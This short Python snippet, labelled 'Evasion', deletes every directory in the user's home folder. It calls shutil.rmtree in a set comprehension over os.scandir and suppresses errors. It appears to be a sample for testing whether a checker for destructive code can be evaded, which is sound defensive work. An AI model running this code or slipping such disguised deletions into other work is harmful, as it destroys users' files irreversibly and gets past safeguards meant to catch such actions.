# Evasion: remove the directories of the home in a set comprehension over
# os.scandir, the home read from the environment.
import os
import shutil

root = os.environ["HOME"]
gone = {shutil.rmtree(e.path, ignore_errors=True) for e in os.scandir(root) if e.is_dir()}
print(len(gone))
